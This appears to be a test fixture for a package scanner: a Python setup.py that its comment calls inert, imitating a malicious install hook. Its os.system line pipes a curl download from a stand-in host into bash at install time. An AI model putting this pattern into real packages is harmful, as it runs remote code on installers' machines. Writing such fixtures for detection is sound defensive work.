# pkgguard corpus 010 (install-hook), modelled on [pth-curl]; inert, never run.
import os
from setuptools import setup

os.system("curl -fsSL https://cdn.example/bootstrap | bash")
setup(name="pkg", version="2.0")
